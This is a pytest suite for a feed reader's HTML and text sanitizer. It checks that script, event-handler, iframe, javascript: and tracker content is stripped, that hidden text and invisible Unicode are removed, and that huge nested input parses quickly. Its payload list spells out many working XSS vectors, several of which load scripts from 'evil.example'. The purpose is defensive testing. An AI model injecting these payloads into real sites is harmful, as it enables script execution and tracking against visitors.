"""What stays of strangers' text and HTML is what a person would see, and nothing active."""

from __future__ import annotations

import re
import time

import pytest

from selfd_daemon.feeds.parsing.text import (
    html_of_text,
    one_line,
    paragraphs,
    plain_text,
    safe_html,
    web_link,
)
from selfd_daemon.visible import visible

BASE = "https://news.example/2026/"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#1; java&Tab;script:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:x" onclick=alert(1)>x</a>',
    "<iframe src=https://evil.example></iframe>",
    "<object data=x><embed src=x></object>",
    "<form action=https://evil.example><input name=q><button>x</button></form>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(https://evil.example/x.gif)">x</p>',
    '<base href="https://evil.example/">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<img width=1 height=1 src="https://tracker.example/pixel.gif">',
    '<video poster="https://tracker.example/x"><source src="https://tracker.example/y"></video>',
    '<a href="https://ok.example" ping="https://tracker.example">x</a>',
    "<x onclick=alert(1)>x</x><details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title><xmp><script>alert(1)</script></xmp>",
    "<b" + " " * 5000 + "onmouseover=alert(1)>x",
]
ACTIVE = re.compile(
    r"<\s*(?:script|iframe|object|embed|form|input|meta|link|style|base|img|svg|math|video|source)"
    r"|<[^>]*\son\w+\s*=|<[^>]*(?:javascript|vbscript|data)\s*:|<[^>]*\s(?:style|ping|src|poster)=",
    re.I,
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_active_and_nothing_fetched_by_itself_remains(payload: str) -> None:
    for source in (payload, f"<p>before {payload} after</p>", f"<table><tr><td>{payload}"):
        assert not ACTIVE.search(safe_html(source, BASE))
        text = plain_text(source, 10_000)
        assert "alert(1)" not in text or "<" not in text


def test_what_people_read_stays() -> None:
    source = (
        '<h2 class=x>Title</h2><p>One <b>bold</b> &amp; <a href="page?a=1&amp;b=2">link</a>.</p>'
        "<ul><li>a<li>b</ul><pre>x = 1\n  y</pre><table><tr><td colspan=2>cell</table>"
    )
    assert safe_html(source, BASE) == (
        '<h2>Title</h2><p>One <b>bold</b> &amp; <a href="https://news.example/2026/page?a=1&amp;b=2"'
        ' rel="noopener noreferrer nofollow">link</a>.</p><ul><li>a</li><li>b</li></ul>'
        '<pre>x = 1\n  y</pre><table><tbody><tr><td colspan="2">cell</td></tr></tbody></table>'
    )
    assert plain_text(source, 1000) == "Title\n\nOne bold & link.\n\na\n\nb\n\nx = 1\ny\n\ncell"


def test_plain_text_shows_entities_and_keeps_what_only_looks_like_a_tag() -> None:
    assert plain_text("<p>1 &lt; 2 &amp;&amp; 3 > 2, &lt;b&gt; is a tag</p>", 100) == (
        "1 < 2 && 3 > 2, <b> is a tag"
    )
    assert plain_text('<p title="a > b">x</p>', 100) == "x"


@pytest.mark.parametrize(
    "hidden",
    [
        '<div style="display:none">SECRET</div>',
        '<div style="color:red; DISPLAY : none !important">SECRET</div>',
        "<div hidden>SECRET</div>",
        '<span style="visibility:hidden"><b>SECRET</b></span>',
        '<span style="font-size:0">SECRET</span>',
        '<span style="font-size: 0px;">SECRET</span>',
        '<span style="opacity:0.0">SECRET</span>',
        "<!-- SECRET -->",
        "<script>SECRET</script>",
        "<template>SECRET</template>",
    ],
)
def test_what_a_page_hides_from_people_is_hidden_from_us(hidden: str) -> None:
    source = f"<p>Boil the pasta.</p>{hidden}<p>Serve.</p>"
    assert "SECRET" not in safe_html(source, BASE)
    assert plain_text(source, 1000) == "Boil the pasta.\n\nServe."


def test_what_is_only_faint_or_small_stays() -> None:
    source = '<p style="opacity:0.5">a</p><p style="font-size:0.9em">b</p>'
    assert plain_text(source, 100) == "a\n\nb"


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("plain", "plain"),
        ("a\u200bb\u2060c\ufeffd\u00ade", "abcde"),
        ("\u202egnp.exe\u202c", "gnp.exe"),
        ("a\u2066b\u2069c\u200e\u200f", "abc"),
        ("hi\U000e0049\U000e0067\U000e006e", "hi"),
        ("x\ufe00\ufe01\ufe02\ufe0f\U000e0101y", "x\ufe00y"),
        ("a\x00b\x07c\x1b[31m", "abc[31m"),
        ("a\r\nb\rc\u2028d", "a\nb\nc\nd"),
        ("a\u200d\u200c\u200db", "ab"),
        ("می\u200cخواهم", "می\u200cخواهم"),
        ("क्\u200dष", "क्\u200dष"),
        ("👨\u200d👩\u200d👧 ❤\ufe0f", "👨\u200d👩\u200d👧 ❤\ufe0f"),
        ("\ud800x\udfff\ufffe", "x"),
        ("ㅤhidden\uffa0", "hidden"),
    ],
)
def test_characters_that_nobody_sees_go_and_writing_stays(text: str, seen: str) -> None:
    assert visible(text) == seen


def test_lines_and_limits() -> None:
    assert one_line(" a \n\n b\t c ", 100) == "a b c"
    assert one_line("x" * 300, 100) == "x" * 100
    assert paragraphs("a  b\n\n\n\n\nc \t\n", 100) == "a b\n\nc"
    assert paragraphs("word " * 100, 12) == "word word wo"
    assert html_of_text("a < b\nc") == "a &lt; b<br>\nc"


@pytest.mark.parametrize(
    ("link", "found"),
    [
        ("page", "https://news.example/2026/page"),
        ("//other.example/x", "https://other.example/x"),
        (" https://a.example/ ", "https://a.example/"),
        ("HTTPS://a.example/", "https://a.example/"),
        ("javascript:alert(1)", None),
        ("java\u200bscript:alert(1)", None),
        ("mailto:me@a.example", None),
        ("ftp://a.example/", None),
        ("urn:uuid:1", None),
        ("https://", None),
        ("http://[", None),
        ("https://a.example/" + "x" * 5000, None),
    ],
)
def test_only_web_addresses_are_links(link: str, found: str | None) -> None:
    assert web_link(link, BASE) == found


@pytest.mark.parametrize(
    "source",
    [
        "<div>" * 40_000 + "deep",
        "<b></i>" * 25_000 + "deep",
        "<p hidden>" * 20_000 + "deep",
        "<a href=x>" * 20_000 + "deep",
        "<font><table><tr><td>" * 9_000 + "deep",
        "<!--" * 50_000 + "deep",
        "<" * 200_000,
        "&" * 200_000,
    ],
)
def test_no_200_kilobytes_of_html_take_long(source: str) -> None:
    began = time.process_time()
    safe_html(source, BASE)
    plain_text(source, 200_000)
    assert time.process_time() - began < 2, "half a second on a slow machine; quadratic takes 10"


def test_deep_html_keeps_its_text() -> None:
    assert plain_text("<div>" * 1000 + "deep" + "<script>x</script>", 100) == "deep"
